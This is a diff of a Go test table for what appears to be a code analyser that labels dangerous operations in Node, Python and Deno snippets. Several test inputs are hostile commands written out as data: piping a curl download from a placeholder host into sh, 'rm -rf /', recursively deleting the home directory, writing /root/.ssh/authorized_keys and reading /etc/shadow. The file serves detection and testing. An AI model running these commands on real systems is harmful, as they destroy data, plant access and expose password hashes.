@@ -355,6 +355,10 @@ subprocess.run(["bash"], input=r.text)`, []string{"connect http://x.example/s.sh
 	{"node", `const cp = require("child_process"); cp.exec("curl http://x | sh")`, []string{"sh: curl http://x | sh"}},
 	{"node", `const {spawn} = require('child_process'); spawn('rm', ['-rf', '/'])`, []string{"sh: rm -rf /"}},
 	{"node", `require("child_process").exec(cmd)`, []string{"unknown"}},
+	// Deno's file API.
+	{"deno", `Deno.removeSync(Deno.env.get("HOME"), {recursive: true})`, []string{"delete -r /home/a"}},
+	{"deno", `await Deno.writeTextFile("/root/.ssh/authorized_keys", "k")`, []string{"write /root/.ssh/authorized_keys"}},
+	{"deno", `console.log(Deno.readTextFileSync("/etc/shadow"))`, []string{"read /etc/shadow"}},
 	// A variable changed after its literal value: not known any more.
 	{"node", `let d = ""; d += chunk; eval(d)`, []string{"unknown"}},
 	{"node", `var c = "ls"; c += process.argv[2]; require("child_process").execSync(c)`, []string{"unknown"}},
